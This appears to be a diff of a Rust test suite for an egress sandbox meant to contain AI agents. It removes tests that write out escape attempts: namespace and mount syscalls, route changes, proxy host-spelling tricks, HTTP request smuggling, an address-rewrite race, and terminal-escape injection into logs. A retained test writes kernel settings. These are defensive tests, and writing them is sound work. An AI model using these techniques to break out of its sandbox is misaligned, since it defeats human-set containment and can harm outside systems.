@@ -1,10 +1,10 @@
-//! What an agent may try that no other file of these tests does. Every attempt works outside the boundary.
+//! What an agent may try that no script of `tests/attacks/` does. Every attempt works outside the boundary.
 #![forbid(unsafe_code)]
 
 use std::fs;
 use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _};
 
-use egress_tests::{RunOutput, Trace, World};
+use egress_tests::{RunOutput, World};
 
 /// A Python program as an attempt.
 fn python(program: &str) -> String {
@@ -101,48 +101,6 @@ fn assert_refused(run: &RunOutput) {
 }
 
 #[test]
-fn packet_sockets_of_old() {
-    // The kernel makes a socket of AF_PACKET of this one.
-    World::new().assert_contained(
-        Trace::None,
-        &python("socket.socket(socket.AF_INET, 10, 0x300)"),
-    );
-}
-
-#[test]
-fn namespaces_by_every_call() {
-    let world = World::new();
-    for call in [
-        "libc.unshare(0x10000000)",
-        "libc.syscall(272, 0x10000000 | 0x40000000)",
-        "libc.setns(os.open('/proc/self/ns/net', os.O_RDONLY), 0)",
-        "libc.mount(b'none', b'/mnt', b'tmpfs', 0, None)",
-        "min(0, libc.syscall(428, -100, b'/', 1))",
-        "min(0, libc.syscall(430, b'tmpfs', 0))",
-        "min(0, libc.syscall(323, 1))",
-    ] {
-        world.assert_contained(
-            Trace::None,
-            &python(&format!(
-                "libc = ctypes.CDLL(None, use_errno=True)\nsys.exit({call} != 0)"
-            )),
-        );
-    }
-}
-
-#[test]
-fn links_addresses_and_routes() {
-    let world = World::new();
-    for change in [
-        "ip addr add 192.0.2.77/32 dev lo",
-        "ip route add 192.0.2.128/25 dev lo",
-        "ip link set lo mtu 1400",
-    ] {
-        world.assert_contained(Trace::None, change);
-    }
-}
-
-#[test]
 fn settings_of_the_kernel() {
     let world = World::new();
     let attempt = "for file in /proc/sys/net/ipv4/ip_unprivileged_port_start /proc/sys/kernel/core_pattern \
@@ -155,168 +113,6 @@ fn settings_of_the_kernel() {
     let control = world.shell("( : >> /proc/sys/kernel/core_pattern ) && test -w /proc/1/mem");
     assert!(control.success(), "{control}");
     assert_refused(&world.egress().allow(&[]).script(attempt).run());
-}
-
-#[test]
-fn names_in_other_spellings() {
-    let world = World::new();
-    // Each of them is asked of the proxy and leads elsewhere, or nowhere, than to the name on the list.
-    let program = r"
-import ssl
-def ask(target, host, method='GET'):
-    stream = socket.create_connection(('127.0.0.1', 3128), 10)
-    stream.sendall(b'%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % (method.encode(), target, host))
-    status = stream.recv(4096).split(b' ')[1:2]
-    if status != [b'200']: return
-    if method == 'CONNECT':
-        # The relay says yes to any, and judges when it knows what the tunnel is for.
-        try: ssl._create_unverified_context().wrap_socket(stream, server_hostname=host.decode().split(':443')[0])
-        except (OSError, ValueError): return
-    print('THROUGH', target, host)
-hosts = [b'denied.test', b'allowed.test.denied.test', b'denied.test\x00.allowed.test', b'198.51.100.20', b'3325256724',
-         b'0xc6336414', b'0306.063.0144.024', b'198.51.25620', b'[::ffff:198.51.100.20]', b'[2001:db8:1::20]',
-         b'[fe80::1%25lo]', b'allowed.test@denied.test', b'denied.test#allowed.test', b'denied.test%2eallowed.test',
-         b'denied.test\\.allowed.test', b'xallowed.test', b'allowed.test:80@denied.test', b'127.0.0.1', b'0', b'localhost']
-for host in hosts:
-    for named in {host, b'allowed.test'}:
-        ask(b'http://' + host + b'/', named)
-    ask(host + b':443', host + b':443', 'CONNECT')
-for host in hosts[:1]:
-    ask(b'http://allowed.test/', host)
-    ask(b'//denied.test/', b'allowed.test'), ask(b'/http://denied.test/', b'allowed.test')
-for path in [b'/health', b'//health', b'/%68ealth', b'/x/../health', b'/metrics', b'/fetch?url=http://denied.test/',
-             b'/ws?url=ws://denied.test/', b'/api/v1/', b'*']:
-    ask(path, b'allowed.test'), ask(path, b'127.0.0.1:3128'), ask(b'http://127.0.0.1' + path, b'127.0.0.1')
-";
-    world.wait_for_quiet();
-    let start = world.wire().snapshot();
-    let run = world
-        .egress()
-        .allow(&["allowed.test"])
-        .script(&python(program))
-        .run();
-    assert_refused(&run);
-    world.wire().assert_still(start);
-    let control = world.shell("curl -sSf http://198.51.100.20/ && curl -sSf http://denied.test/");
-    assert!(control.success(), "{control}");
-}
-
-#[test]
-fn second_requests_and_smuggled_ones() {
-    let world = World::new();
-    let program = r"
-good = b'GET /first HTTP/1.1\r\nHost: allowed.test\r\n\r\n'
-evil = b'GET /evil HTTP/1.1\r\nHost: denied.test\r\nConnection: close\r\n\r\n'
-length = str(len(evil)).encode()
-post = b'POST /first HTTP/1.1\r\nHost: allowed.test\r\n'
-for first in [
-    good,
-    post + b'Content-Length: 0\r\nContent-Length: ' + length + b'\r\n\r\n',
-    post + b'Content-Length: ' + length + b'\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
-    post + b'Transfer-Encoding: chunked\r\n\r\n0\r\nX: y\r\n\r\n',
-    post + b'Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n',
-    post + b'Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n',
-    post + b'Content-Length: +0\r\n\r\n',
-    b'GET /first HTTP/1.1\r\nHost: allowed.test\r\nX: y\n\n',
-    b'GET /first HTTP/1.1\r\nHost: allowed.test\r\nUpgrade: websocket\r\nConnection: upgrade\r\n\r\n',
-    b'GET /first HTTP/1.1\r\nHost: allowed.test\r\nHost: denied.test\r\n\r\n',
-    b'CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n',
-]:
-    for port, name in [(80, 'allowed.test'), (3128, '127.0.0.1')]:
-        text = (first + evil).replace(b' /', b' http://allowed.test/') if port == 3128 else first + evil
-        stream = socket.create_connection((name, port), 10)
-        stream.settimeout(10)
-        try:
-            stream.sendall(text)
-            while stream.recv(4096): pass
-        except OSError: pass
-";
-    let run = world
-        .egress()
-        .allow(&["allowed.test"])
-        .script(&python(program))
-        .run();
-    assert_eq!(run.status, Some(0), "{run}");
-    let requests = world.requests();
-    assert!(!requests.is_empty(), "{run}");
-    for request in requests {
-        assert_eq!(request.host.as_deref(), Some("allowed.test"), "{request:?}");
-    }
-    let control = world.shell("curl -sSf http://denied.test/evil; true");
-    assert!(control.success(), "{control}");
-    assert!(
-        world
-            .requests()
-            .iter()
-            .any(|request| request.host.as_deref() == Some("denied.test"))
-    );
-}
-
-#[test]
-fn addresses_rewritten_during_the_call() {
-    let world = World::new();
-    let program = r"
-import threading
-libc = ctypes.CDLL(None, use_errno=True)
-sys.setswitchinterval(1e-6)
-local = struct.pack('!HH4s8x', 0, 9, socket.inet_aton('127.0.0.1'))
-far = struct.pack('!HH4s8x', 0, 7000, socket.inet_aton('198.51.100.20'))
-buffer = ctypes.create_string_buffer(16)
-stop = False
-def flip():
-    while not stop:
-        for address in (local, far): ctypes.memmove(buffer, struct.pack('=H', 2) + address[2:], 16)
-threading.Thread(target=flip).start()
-stream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-for _ in range(ROUNDS):
-    libc.sendto(stream.fileno(), b'x', 1, 0, buffer, 16)
-    again = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    if libc.connect(again.fileno(), buffer, 16) == 0: libc.send(again.fileno(), b'x', 1, 0x4000)
-    again.close()
-stop = True
-";
-    let start = world.wire().snapshot();
-    let attempt = python(&program.replace("ROUNDS", "3000"));
-    let run = world.egress().allow(&[]).script(&attempt).run();
-    assert_eq!(run.status, Some(0), "{run}");
-    world.wire().assert_still(start);
-    let control = world.shell(&python(&program.replace("ROUNDS", "3000")));
-    assert!(control.success(), "{control}");
-    world.wire().assert_moved(start);
-}
-
-#[test]
-fn words_for_the_callers_terminal_and_runner() {
-    let world = World::new();
-    let run = world.egress().allow(&[]).file(
-        "ask.py",
-        r"
-import ctypes, socket
-libc = ctypes.CDLL(None)
-for name in [b'\x1b]0;owned\x07', b'\n::error::owned', b'|<b>`owned`']:
-    libc.prctl(15, name, 0, 0, 0)
-    try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('198.51.100.20', 7000))
-    except OSError: pass
-",
-    );
-    let run = run
-        .script("python3 ask.py; curl -s --noproxy '*' 'http://x.test/%0A::error::owned' || true")
-        .run();
-    assert_eq!(run.status, Some(0), "{run}");
-    let flows = fs::read_to_string(run.packet.join("flows.jsonl")).unwrap();
-    let summary = fs::read_to_string(run.packet.join("summary.md")).unwrap();
-    // It is in the record, and does nothing there.
-    assert!(flows.contains("owned"), "{flows}");
-    for text in [&run.stderr, &summary, &flows] {
-        assert!(
-            !text.contains('\u{1b}') && !text.contains('\u{7}'),
-            "{text}"
-        );
-        assert!(
-            !text.lines().any(|line| line.trim_start().starts_with("::")),
-            "{text}"
-        );
-    }
 }
 
 #[test]
